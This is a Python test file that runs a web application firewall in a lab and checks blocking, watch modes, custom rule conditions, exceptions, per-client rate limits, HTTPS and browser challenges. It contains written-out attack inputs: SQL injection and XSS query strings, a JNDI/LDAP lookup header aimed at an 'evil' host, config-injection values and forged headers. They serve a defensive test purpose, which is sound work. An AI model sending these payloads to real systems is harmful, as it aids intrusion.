"""Web application firewalls with real requests: what is blocked, watched, excepted and limited, and what never notices."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from haechi.dataplane.kernel import KernelError
from haechi.dataplane.plan import Plan
from haechi.dataplane.waf_plan import Condition, Limit, WafBackend, WafRule
from tests.packets.balancerlab import until
from tests.packets.waflab import ID, WafLab

ATTACK = "/?q=1%27%20or%20%271%27=%271"
PASSED = ("200", "501")  # the origin answers no POST
XSS = "/?q=%3Cscript%3Ealert(1)%3C/script%3E"


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WafLab]:
    made = WafLab(tmp_path_factory.mktemp("waf"))
    try:
        yield made
    finally:
        made.down()


def status(lab: WafLab, path: str, *arguments: str, **more: Any) -> str:
    return lab.curl(path, *arguments, **more).split(" ", 1)[0]


def seen(lab: WafLab) -> dict[str, Any]:
    """What the origin saw of a harmless request."""
    return dict(json.loads(lab.curl("/").split(" ", 1)[1]))


def last(lab: WafLab) -> dict[str, Any]:
    """The newest line of the log of requests."""
    return dict(json.loads(lab.wafs.logs(ID)[0].read_text().splitlines()[-1]))


def test_attacks_are_blocked_and_ordinary_requests_pass(lab: WafLab) -> None:
    lab.apply(lab.domain())
    assert status(lab, "/?q=hello") == "200" and status(lab, "/?q=%EC%95%88%EB%85%95") == "200"
    blocked = lab.curl(ATTACK)
    assert blocked.startswith("405") and "차단" in blocked
    assert status(lab, "/", "-d", "q=1' or '1'='1") == "405"
    assert status(lab, "/", "-H", "X-Api: ${jndi:ldap://evil/x}") == "405"
    assert status(lab, "/", host="other.test") == "000"
    until(lambda: lab.wafs.logs(ID)[1].stat().st_size > 0)
    record = json.loads(lab.wafs.logs(ID)[1].read_text().splitlines()[0])["transaction"]
    assert record["request"]["method"] == "GET" and "942100" in {m["details"]["ruleId"] for m in record["messages"]}


def test_modes_and_groups(lab: WafLab) -> None:
    lab.apply(lab.domain(mode="watch"))
    size = lab.wafs.logs(ID)[1].stat().st_size
    assert status(lab, ATTACK) == "200"
    until(lambda: lab.wafs.logs(ID)[1].stat().st_size > size)  # the record is written once the answer is out
    lab.apply(lab.domain(mode="off"))
    assert status(lab, ATTACK) == "200"
    lab.apply(lab.domain(), paused=True)
    assert status(lab, ATTACK) == "200"
    lab.apply(lab.domain(group="loose"))
    assert (status(lab, ATTACK), status(lab, XSS)) == ("200", "405"), "one rule's score, and several rules'"
    lab.apply(lab.domain(group="medium"), lab.domain(domain="strict.test", group="strict"))
    odd = "/?q=a%20%3D%3D%20b%23%23--%3B%3B%27%27%22%22"
    assert (status(lab, odd), status(lab, odd, host="strict.test")) == ("200", "405")


@pytest.mark.parametrize(
    ("condition", "hit", "miss"),
    [
        (Condition("path", "prefix", ("/admin",)), ("/admin/x",), ("/other",)),
        (Condition("path", "contain", ("관리",)), ("/%EA%B4%80%EB%A6%AC",), ("/x",)),
        (Condition("url", "suffix", (".bak",)), ("/x.bak",), ("/x.txt",)),
        (Condition("query", "regex", (r"id=\d{4,}",)), ("/?id=12345",), ("/?id=12",)),
        (Condition("argument", "eq", ("1", "2"), "n"), ("/?n=2",), ("/?n=3",)),
        (Condition("argument", "exists", (), "n"), ("/?n=",), ("/?m=1",)),
        (Condition("agent", "contain", ("bad",)), ("/", "-A", "a bad one"), ("/", "-A", "good")),
        (Condition("referer", "contain", ("shop",), "", True), ("/", "-e", "http://evil.test"), ("/", "-e", "http://shop.test")),
        (Condition("header", "eq", ("1",), "X-Try"), ("/", "-H", "X-Try: 1"), ("/", "-H", "X-Try: 2")),
        (Condition("cookie", "prefix", ("ab",), "sid"), ("/", "-b", "sid=abc"), ("/", "-b", "sid=xbc")),
        (Condition("method", "eq", ("DELETE",)), ("/", "-X", "DELETE"), ("/",)),
        (Condition("body", "contain", ("needle",)), ("/", "-d", "hay needle"), ("/", "-d", "hay")),
        (Condition("query", "longer", ("20",)), ("/?" + "a" * 30,), ("/?a",)),
        (Condition("length", "above", ("10",)), ("/", "-d", "a" * 30), ("/", "-d", "a")),
        (Condition("ip", "in", ("198.18.48.0/28",)), ("/",), ()),
        (Condition("ip", "in", ("10.0.0.0/8",), "", True), ("/",), ()),
    ],
)
def test_conditions(lab: WafLab, condition: Condition, hit: tuple[str, ...], miss: tuple[str, ...]) -> None:
    lab.apply(lab.domain(rules=(WafRule(7, "custom", conditions=(condition,)),)))
    assert status(lab, hit[0], *hit[1:]) == "405"
    until(lambda: (last(lab)["scene"], last(lab)["rule"]) == ("custom", "7"))
    if miss:
        assert status(lab, miss[0], *miss[1:]) in PASSED


def test_every_condition_must_hold_and_watching_lets_through(lab: WafLab) -> None:
    both = (Condition("path", "eq", ("/a",)), Condition("method", "eq", ("POST",)))
    lab.apply(lab.domain(rules=(WafRule(7, "custom", conditions=both),)))
    assert [status(lab, "/a"), status(lab, "/b", "-d", "x"), status(lab, "/a", "-d", "x")] == ["200", "501", "405"]
    lab.apply(lab.domain(rules=(WafRule(7, "custom", "watch", both),)))
    assert status(lab, "/a", "-d", "x") in PASSED
    until(lambda: (last(lab)["rule"], last(lab)["action"]) == ("7", "watch"))


def test_exceptions_go_before_everything(lab: WafLab) -> None:
    black = WafRule(1, "black", conditions=(Condition("ip", "in", ("198.18.48.1/32",)),))
    lab.apply(lab.domain(rules=(black,)))
    assert (status(lab, "/"), status(lab, "/", place="visitor")) == ("405", "200")
    everything = WafRule(2, "white", conditions=(Condition("path", "prefix", ("/api",)),), skips=("all",))
    lab.apply(lab.domain(rules=(black, everything)))
    assert (status(lab, "/"), status(lab, "/api" + ATTACK)) == ("405", "200")
    lab.apply(lab.domain(rules=(black, WafRule(2, "white", conditions=everything.conditions, skips=("black",)))))
    assert (status(lab, "/api"), status(lab, "/api" + ATTACK)) == ("200", "405")
    lab.apply(lab.domain(rules=(WafRule(2, "white", conditions=everything.conditions, skips=("type:sqli",)),)))
    assert (status(lab, "/api" + ATTACK), status(lab, "/api" + XSS), status(lab, ATTACK)) == ("200", "405", "405")
    lab.apply(lab.domain(rules=(WafRule(2, "white", conditions=everything.conditions, skips=("rule:942100",)),)))
    assert (status(lab, "/api" + ATTACK), status(lab, ATTACK)) == ("200", "405")
    forged = ("-H", "X-Hx-Skip: <type:sqli> <rule:942100>")
    assert status(lab, ATTACK, *forged) == "405"
    assert "X-Hx-Skip" not in dict(seen(lab)["headers"])


def test_rates_are_of_each_client(lab: WafLab) -> None:
    limit = Limit(interval=60, threshold=5, hold=60)
    lab.apply(lab.domain(rules=(WafRule(9, "cc", conditions=(Condition("path", "eq", ("/login",)),), limit=limit),)))
    assert [status(lab, "/login") for _ in range(8)] == ["200"] * 5 + ["405"] * 3
    assert status(lab, "/") == "200" and status(lab, "/login", place="visitor") == "200"
    by_header = Limit(interval=60, threshold=2, hold=60, target="header", name="X-User")
    lab.apply(lab.domain(rules=(WafRule(10, "custom", limit=by_header),)))
    assert [status(lab, "/", "-H", "X-User: a") for _ in range(4)] == ["200", "200", "405", "405"]
    assert status(lab, "/", "-H", "X-User: b") == "200" and status(lab, "/") == "200"


def test_who_the_client_is(lab: WafLab) -> None:
    lab.apply(lab.domain())
    forged = lab.curl("/", "-H", "X-Forwarded-For: 9.9.9.9", "-H", "X-Forwarded-Proto: https")
    headers = dict(json.loads(forged.split(" ", 1)[1])["headers"])
    assert headers["X-Forwarded-For"] == "198.18.48.1" and headers["X-Forwarded-Proto"] == "http"
    lab.apply(lab.domain(client="X-Forwarded-For", rules=(WafRule(1, "black", conditions=(Condition("ip", "in", ("9.9.9.9/32",)),)),)))
    assert status(lab, "/", "-H", "X-Forwarded-For: 9.9.9.9") == "405"
    told = lab.curl("/", "-H", "X-Forwarded-For: 8.8.8.8", "-H", "X-Forwarded-Proto: https")
    headers = dict(json.loads(told.split(" ", 1)[1])["headers"])
    assert headers["X-Forwarded-For"] == "8.8.8.8, 198.18.48.1" and headers["X-Forwarded-Proto"] == "https"


def test_origins(lab: WafLab) -> None:
    lab.apply(lab.domain(balance="roundRobin"))
    assert {seen(lab)["name"] for _ in range(6)} == {"a", "b"} and seen(lab)["peer"] == lab.address
    lab.apply(lab.domain())
    assert len({seen(lab)["name"] for _ in range(4)}) == 1
    dead = (WafBackend(lab.places["visitor"]), WafBackend(lab.places["a"]))
    lab.apply(lab.domain(backends=dead, balance="roundRobin", connect=1, headers=(("X-Mark", "waf"),)))
    assert [seen(lab)["name"] for _ in range(3)] == ["a"] * 3 and dict(seen(lab)["headers"])["X-Mark"] == "waf"


def test_https(lab: WafLab, tmp_path: Path) -> None:
    pair = [str(tmp_path / name) for name in ("key.pem", "cert.pem")]
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"]
    subprocess.run([*command, "-subj", "/CN=shop.test", "-keyout", pair[0], "-out", pair[1]], check=True, capture_output=True)
    pem = "".join(Path(path).read_text() for path in reversed(pair))
    listeners = (("http", 80), ("https", 443))
    lab.apply(lab.domain(listeners=listeners, certificate=pem, plain_origin=True, to_https=True, http2=True))
    assert status(lab, "/", scheme="https") == "200" and status(lab, ATTACK, scheme="https") == "405" and status(lab, "/") == "301"
    with pytest.raises(KernelError, match="without a certificate"):
        lab.apply(lab.domain(listeners=listeners))
    assert status(lab, "/", scheme="https") == "200", "what was refused changed nothing"


@pytest.mark.parametrize(
    "wrong", [{"domain": "x.test; } server {"}, {"backends": (WafBackend("a b"),)}, {"headers": (("X", '1"; }'),)}, {"client": "X Y"}]
)
def test_what_no_line_can_carry_is_refused(lab: WafLab, wrong: dict[str, Any]) -> None:
    lab.apply(lab.domain())
    with pytest.raises(KernelError):
        lab.apply(lab.domain(**wrong))
    assert status(lab, "/") == "200"


def test_changes_lose_no_request(lab: WafLab) -> None:
    lab.apply(lab.domain())
    stop, failures, served = threading.Event(), [], []

    def visit() -> None:
        while not stop.is_set():
            got = status(lab, "/")
            (served if got == "200" else failures).append(got)

    threads = [threading.Thread(target=visit) for _ in range(3)]
    for thread in threads:
        thread.start()
    for number in range(6):
        lab.apply(lab.domain(rules=(WafRule(number, "custom", conditions=(Condition("path", "eq", (f"/{number}",)),)),)))
        time.sleep(0.1)
    stop.set()
    for thread in threads:
        thread.join()
    assert failures == [] and len(served) > 20


def test_a_killed_engine_is_back(lab: WafLab) -> None:
    plan = lab.apply(lab.domain())
    lab.wafs.start_watching()
    pid = json.loads((lab.site.run / "wafs" / ID / "nginx.json").read_text())["pid"]
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    for one in [pid, *map(int, children)]:
        os.kill(one, signal.SIGKILL)
    began = time.monotonic()
    until(lambda: status(lab, "/") == "200")
    assert time.monotonic() - began < 5
    lab.wafs.close()
    assert lab.wafs.inspect(plan) == []
    lab.wafs.apply(Plan())
    assert lab.curl("/").startswith("000")


def cookie_of(page: str) -> str:
    """What the page's script would keep."""
    found = re.search(r"document\.cookie='(\w+)='\+'([0-9a-f]{40})'", page)
    assert found, page
    return f"{found[1]}={found[2][::-1]}"


@pytest.mark.parametrize("action", ["js", "captcha"])
def test_browsers_are_asked_first(lab: WafLab, action: str) -> None:
    rule = WafRule(1, "custom", action, (Condition("path", "prefix", ("/member",)),))
    lab.apply(lab.domain(rules=(rule,)))
    page = lab.curl("/member?a=1")
    assert page.startswith("200") and '"name"' not in page and "주십시오" in page
    assert '"name"' in lab.curl("/other")
    kept = cookie_of(page)
    assert '"name"' in lab.curl("/member?a=1", "-b", kept)
    until(lambda: last(lab)["status"] == 200 and last(lab)["action"] == "")
    assert '"name"' not in lab.curl("/member?a=1", "-b", kept, "-A", "another browser")
    assert '"name"' not in lab.curl("/member?a=1", "-b", kept[:-1] + ("0" if kept[-1] != "0" else "1"))
    assert '"name"' not in lab.curl("/member?a=1", "-b", kept, place="visitor")
    assert lab.curl(f"/member{ATTACK[1:]}", "-b", kept).startswith("405")  # core rules judge whoever passed
    lab.apply(lab.domain(rules=(rule, WafRule(2, "black", conditions=(Condition("path", "eq", ("/x",)),)))))
    assert '"name"' in lab.curl("/member", "-b", kept)  # a reload forgets nobody


def test_too_many_requests_are_asked(lab: WafLab) -> None:
    rule = WafRule(1, "cc", "js", limit=Limit(60, 5, 60))
    lab.apply(lab.domain(rules=(rule,)))
    answers = [lab.curl("/", place="visitor") for _ in range(8)]
    assert all('"name"' in answer for answer in answers[:5]) and '"name"' not in answers[-1]
    assert '"name"' in lab.curl("/", "-b", cookie_of(answers[-1]), place="visitor") and '"name"' in lab.curl("/")
